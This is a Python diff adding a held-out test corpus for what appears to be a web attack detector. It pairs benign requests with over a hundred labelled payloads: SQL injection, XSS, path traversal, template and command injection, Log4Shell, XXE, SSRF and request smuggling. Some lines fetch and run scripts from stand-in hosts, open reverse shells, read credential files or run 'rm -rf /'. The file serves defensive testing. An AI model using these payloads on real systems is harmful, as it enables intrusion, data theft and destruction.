+        "",
+        {
+            **_JSONCT,
+            "User-Agent": "MyBank/5.2.0 (Android 14; SM-S918B; Build/UP1A.231005.007)",
+            "X-Request-Signature": "t=1700000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56",
+        },
+        b'{"token":"dQw4w9WgXcQ:APA91bH-abc_DEF/123+xyz","topics":["offers","security-alerts"]}',
+    ),
+    (
+        "POST",
+        "/api/checkout/apple-pay/validate",
+        "",
+        {**_JSONCT, **_H7_CHROME},
+        b'{"validationURL":"https://apple-pay-gateway.apple.com/paymentservices/startSession",'
+        b'"displayName":"Shop & Co.","initiative":"web","initiativeContext":"shop.example.com"}',
+    ),
+    (
+        "POST",
+        "/wiki/api.php",
+        "",
+        _FORM,
+        b"action=parse&format=json&contentmodel=wikitext&text=%3Csyntaxhighlight+lang%3D%22bash"
+        b"%22%3Etar+-xzf+backup.tar.gz+-C+%2Ftmp%3C%2Fsyntaxhighlight%3E&title=Backups",
+    ),
+    (
+        "POST",
+        "/api/files/8812/rename",
+        "",
+        _FORM,
+        b"new_name=Budget+2027+%E2%80%93+v3+%28CFO+comments%29+%5BDRAFT%5D.xlsx&keep_versions=1",
+    ),
+    (
+        "HEAD",
+        "/healthcheck",
+        "",
+        {"User-Agent": "Amazon CloudFront", "Via": "1.1 abc.cloudfront.net (CloudFront)"},
+        None,
+    ),
+)
+
+HELDOUT7_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries as in `_deliver6`, plus `_deliver7`'s own.
+    ("sqli", "cartjson", "1' OR 1=1-- -"),
+    ("sqli", "checkout", "x' UNION SELECT username, password FROM customers-- "),
+    ("sqli", "suggest", "shoe' AND 1=(SELECT COUNT(*) FROM tabname); --"),
+    ("sqli", "beacon", "1' AND SLEEP(5) AND '1'='1"),
+    ("sqli", "mobile", "' OR ''='"),
+    ("sqli", "patch", "x'||(SELECT version())||'"),
+    ("sqli", "argname", "id' OR '1'='1"),
+    ("sqli", "jsonkey", "name' OR 1=1--"),
+    ("sqli", "jsonescape", "' UNION SELECT null, table_name FROM information_schema.tables--"),
+    ("sqli", "wiki", "1'; EXEC xp_cmdshell('dir'); --"),
+    ("sqli", "query", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))"),
+    (
+        "sqli",
+        "query",
+        "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
+    ),
+    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+    ("sqli", "query", "'+(SELECT 1 FROM dual WHERE 1=1)+'"),
+    ("sqli", "query", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname),0x7e),1)-- -"),
+    ("sqli", "query", "' UNION ALL SELECT NULL,NULL,NULL,CHR(113)||CHR(118)-- -"),
+    ("sqli", "query", "1 AND 7347=DBMS_PIPE.RECEIVE_MESSAGE(CHR(79),5)"),
+    ("sqli", "query", "'; COPY (SELECT '') TO PROGRAM 'id'--"),
+    ("sqli", "query", "1%2527%2520OR%25201%253D1--"),
+    ("sqli", "raw", "1%27%09oR%09%271%27%3D%271"),
+    ("sqli", "raw", "%EF%BC%87%20OR%201=1--"),
+    ("sqli", "cookie", "1' AND (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a"),
+    ("sqli", "header:X-Api-Version", "1' UNION SELECT @@version-- -"),
+    ("sqli", "matrix", "1' OR '1'='1"),
+    ("sqli", "sharemeta", "report'); DELETE FROM files WHERE ('1'='1"),
+    ("sqli", "multipart", "1' or sleep(5)#"),
+    ("xss", "cartjson", "<img src=x onerror=alert(document.cookie)>"),
+    ("xss", "checkout", '"><svg onload=confirm(1)>'),
+    ("xss", "suggest", "<script>alert(1)</script>"),
+    ("xss", "beacon", "</title><script>new Image().src='//x.example/?c='+document.cookie</script>"),
+    ("xss", "mobile", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
+    ("xss", "patch", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("xss", "argname", "<svg onload=alert(1)>"),
+    ("xss", "jsonkey", "<img src=x onerror=alert(1)>"),
+    ("xss", "jsonescape", "<script>alert(document.domain)</script>"),
+    ("xss", "wiki", '<div style="background:url(javascript:alert(1))">x</div>'),
+    ("xss", "sharemeta", "\"><img src=x onerror=alert('file')>.pdf"),
+    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("xss", "query", "<marquee onstart=alert(1)>"),
+    ("xss", "query", "<img src=x onerror=window['al'+'ert'](1)>"),
+    ("xss", "query", '<a href="javas&#99;ript:alert(1)">click</a>'),
+    ("xss", "query", "<form><button formaction=javascript:alert(1)>x</button></form>"),
+    ("xss", "query", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
+    (
+        "xss",
+        "query",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"/>",
+    ),
+    ("xss", "query", "<img src=x onerror=alert`1`>"),
+    ("xss", "query", "<script src=//x.example/a.js></script>"),
+    ("xss", "query", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
+    ("xss", "raw", "%3Csvg%2Fonload%3Dalert%281%29%3E"),
+    ("xss", "double", "<body onload=alert(1)>"),
+    ("xss", "redirect", "javascript://%0aalert(1)"),
+    ("xss", "redirect", "data:text/html,<script>alert(1)</script>"),
+    ("xss", "header:Referer", 'https://x.example/"><script>alert(1)</script>'),
+    ("xss", "filename", '"><img src=x onerror=alert(1)>.png'),
+    ("lfi", "cartjson", "../../../../etc/passwd"),
+    ("lfi", "checkout", "../../../../../../windows/win.ini"),
+    ("lfi", "suggest", "/etc/shadow"),
+    ("lfi", "beacon", "file:///proc/self/environ"),
+    ("lfi", "mobile", "../../../../../../data/data/com.example.app/shared_prefs/auth.xml"),
+    ("lfi", "patch", "php://filter/convert.base64-encode/resource=../config.php"),
+    ("lfi", "argname", "../../../etc/passwd"),
+    ("lfi", "sharemeta", "../../../../home/ubuntu/.aws/credentials"),
+    ("lfi", "matrix", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
+    ("lfi", "query", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    ("lfi", "query", "..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("lfi", "query", "/..;/..;/..;/etc/passwd"),
+    ("lfi", "query", "....\\\\....\\\\....\\\\windows\\\\system.ini"),
+    ("lfi", "query", "/proc/self/cmdline"),
+    ("lfi", "query", "/etc/nginx/nginx.conf"),
+    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
+    ("lfi", "query", "phar://uploads/avatar.jpg/shell.php"),
+    ("lfi", "raw", "..%252f..%252f..%252fetc%252fpasswd"),
+    ("lfi", "path", "/download/..%2f..%2f..%2f..%2fetc/passwd"),
+    ("lfi", "path", "/.env"),
+    ("lfi", "path", "/app/config/parameters.yml"),
+    ("lfi", "path", "/WEB-INF/classes/application.properties"),
+    ("lfi", "path", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
+    ("lfi", "cookie", "../../../../etc/passwd"),
+    ("lfi", "header:X-File", "/etc/passwd"),
+    ("rce", "cartjson", "; curl -s http://x.example/s.sh | bash"),
+    ("rce", "checkout", "$(wget -qO- http://x.example/a)"),
+    ("rce", "suggest", "| id"),
+    ("rce", "beacon", "`cat /etc/passwd`"),
+    ("rce", "mobile", "; nc -e /bin/sh 203.0.113.7 4444"),
+    ("rce", "patch", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
+    ("rce", "argname", ";id"),
+    ("rce", "jsonkey", "$(whoami)"),
+    ("rce", "jsonescape", "; rm -rf / --no-preserve-root"),
+    ("rce", "wiki", "<?php system($_REQUEST['cmd']); ?>"),
+    ("rce", "sharemeta", "x.pdf; curl http://x.example/$(id|base64)"),
+    ("rce", "query", "& certutil -urlcache -split -f http://x.example/a.exe a.exe"),
+    ("rce", "query", "| cmd.exe /c dir C:\\"),
+    ("rce", "query", ";w'h'o'a'm'i"),
+    ("rce", "query", ";c\\at /e\\tc/pa\\sswd"),
+    ("rce", "query", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
+    (
+        "rce",
+        "query",
+        '; php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+    ),
+    ("rce", "query", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
+    ("rce", "query", "*{T(java.lang.Runtime).getRuntime().exec('id')}"),
+    ("rce", "query", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
+    (
+        "rce",
+        "query",
+        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
+    ),
+    ("rce", "query", "__import__('subprocess').check_output(['id'])"),
+    ("rce", "query", "';process.mainModule.require('child_process').execSync('id');'"),
+    ("rce", "raw", "%0a%2fbin%2fcat%20%2fetc%2fpasswd"),
+    ("rce", "header:X-Api-Version", "${jndi:ldap://x.oast.example/a}"),
+    ("rce", "cookie", "() { :; }; /bin/bash -c 'id'"),
+    (
+        "rce",
+        "rawjson",
+        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c calc"]}}',
+    ),
+    ("scanner", "ua", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
+    (
+        "scanner",
+        "ua",
+        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+    ),
+    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0"),
+    ("scanner", "ua", "gobuster/3.6"),
+    ("scanner", "ua", "feroxbuster/2.10.1"),
+    ("scanner", "ua", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
+    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
+    ("scanner", "ua", "Acunetix-WebVulnerability-Scanner"),
+    ("scanner", "ua", "dirbuster"),
+    ("scanner", "header:X-Wvs-Id", "Acunetix-Deepscan/209"),
+    ("scanner", "path", "/actuator/env"),
+    ("scanner", "path", "/actuator/heapdump"),
+    ("scanner", "path", "/.aws/credentials"),
+    ("scanner", "path", "/server-status"),
+    ("scanner", "path", "/xmlrpc.php"),
+    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    ("scanner", "path", "/owa/auth/x.js"),
+    ("scanner", "path", "/jenkins/script"),
+    ("scanner", "path", "/manager/html"),
+    ("scanner", "path", "/HNAP1/"),
+    ("scanner", "path", "/boaform/admin/formLogin"),
+    ("scanner", "path", "/debug/pprof/"),
+    ("scanner", "path", "/api/v1/pods"),
+    ("scanner", "path", "/.svn/entries"),
+    ("protocol", "method", "CONNECT"),
+    ("protocol", "method", "DEBUG"),
+    ("protocol", "header:Content-Length", "1, 2"),
+    ("protocol", "header:Transfer-Encoding", " chunked"),
+    ("protocol", "header:Transfer-Encoding", "xchunked"),
+    ("protocol", "header:Host", "127.0.0.1:22"),
+    ("protocol", "header:X-Forwarded-Host", "evil.example"),
+    ("protocol", "header:X-HTTP-Method-Override", "TRACE"),
+    ("protocol", "header:Range", "bytes=0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-"),
+    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
+    ("protocol", "header:Expect", "100-continue, 100-continue"),
+    ("protocol", "header:Transfer-Encoding", "chunked;foo=bar"),
+    ("protocol", "raw", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
+    ("protocol", "redirect", "//evil.example/%2F.."),
+    ("protocol", "redirect", "https://shop.example.com.evil.example/callback"),
+    ("protocol", "argname", "__proto__[isAdmin]"),
+    ("protocol", "rawjson", '{"constructor":{"prototype":{"isAdmin":true}}}'),
+    (
+        "protocol",
+        "xml",
+        '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
+    ),
+    ("protocol", "textxml", '<!DOCTYPE s [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]><s/>'),
+    ("protocol", "query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("protocol", "query", "gopher://127.0.0.1:6379/_FLUSHALL"),
+    (
+        "protocol",
+        "headers",
+        "Content-Length: 4\nTransfer-Encoding: chunked",
+    ),
+)
+
+
+def _deliver7(cat: str, how: str, p: str, note: str) -> CorpusRequest:
+    """Held-out 7's own deliveries, then `_deliver6`'s: a cart line's option in JSON, a checkout
+    form's bracketed field, a search-as-you-type call, an analytics beacon (`text/plain` JSON, as
+    `navigator.sendBeacon` sends), a mobile app's JSON with its headers, a JSON merge patch, an
+    argument's name, a JSON key, a JSON string spelled in `\\u` escapes, a wiki edit, a shared
+    file's description, and a Java matrix parameter in the path."""
+    h = _headers()
+    if how == "cartjson":
+        doc = {"items": [{"id": 40012345678901, "quantity": 1, "properties": {"Engraving": p}}]}
+        return _json(cat, "/cart/add.js", doc, note)
+    if how == "checkout":
+        form = urlencode({"checkout[shipping_address][address1]": p, "checkout[email]": "a@b.co"})
+        h = {**h, **_FORM, "Content-Length": str(len(form))}
+        return CorpusRequest(cat, "POST", "/checkout/shipping", "", h, form.encode(), note)
+    if how == "suggest":
+        h = {**h, "Accept": "application/json", "X-Requested-With": "XMLHttpRequest"}
+        return CorpusRequest(
+            cat, "GET", "/api/search/suggest", f"q={quote(p)}&limit=6", h, None, note
+        )
+    if how == "beacon":
+        beacon: dict[str, object] = {"events": [{"name": "page_view", "params": {"page_title": p}}]}
+        body = json.dumps(beacon).encode()
+        h = {**h, **_H7_BEACON, "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/api/collect", "", h, body, note)
+    if how == "mobile":
+        extra = {"X-App-Version": "8.14.1", "Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"}
+        r = _json(cat, "/api/mobile/v3/profile", {"bio": p, "lang": "en"}, note, **extra)
+        return CorpusRequest(
+            cat, "POST", r.path, "", {**r.headers, "User-Agent": "okhttp/4.12.0"}, r.body, note
+        )
+    if how == "patch":
+        body = json.dumps({"title": p}).encode()
+        h = {**h, "Content-Type": "application/merge-patch+json", "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "PATCH", "/api/docs/pages/8812", "", h, body, note)
+    if how == "argname":
+        return CorpusRequest(cat, "GET", "/search", f"{quote(p, safe='')}=1&page=2", h, None, note)
+    if how == "jsonkey":
+        return _json(cat, "/api/products/search", {"filters": {p: True}, "page": 1}, note)
+    if how == "jsonescape":
+        escaped = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in p)
+        body = ('{"thread": 7, "comment": "' + escaped + '"}').encode()
+        h = {**h, **_JSONCT, "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/api/comments", "", h, body, note)
+    if how == "wiki":
+        edit = urlencode({"wpTextbox1": p, "wpSummary": "edit", "wpSave": "Save changes"})
+        h = {**h, **_FORM, "Content-Length": str(len(edit))}
+        q = "title=Sandbox&action=submit"
+        return CorpusRequest(cat, "POST", "/wiki/index.php", q, h, edit.encode(), note)
+    if how == "sharemeta":
+        meta = {"name": "report.pdf", "description": p, "parent": "/Shared"}
+        return _json(cat, "/api/files/metadata", meta, note)
+    if how == "matrix":
+        return CorpusRequest(cat, "GET", f"/catalog/item;id={quote(p, safe='')}", "", h, None, note)
+    return _deliver6(cat, how, p, note)
+
+
+def heldout7_attacks() -> list[CorpusRequest]:
+    """The seventh held-out attack set, each payload delivered the way its entry names."""
+    return [_deliver7(c, how, p, f"held-out-7 {how}: {p[:120]}") for c, how, p in HELDOUT7_ATTACKS]
+
+
+def heldout7_benign() -> list[CorpusRequest]:
+    """The seventh held-out benign set: shop, clinic and bank free text, markdown and wiki edits,
+    text in many scripts, search-as-you-type, beacons, mobile and file-sharing calls, and whole
+    requests with the headers real browsers and CDNs add."""
+    out = _benign_set(
+        "held-out-7",
+        HELDOUT7_BENIGN_TEXT,
+        HELDOUT7_BENIGN_QUERIES,
+        HELDOUT7_BENIGN_PATHS,
+        HELDOUT7_BENIGN_JSON,
+        HELDOUT7_BENIGN_COOKIES,
+        HELDOUT7_BENIGN_REFERERS,
+        HELDOUT7_BENIGN_UAS,
+    )
+    return out + _requests("held-out-7", HELDOUT7_BENIGN_REQUESTS)
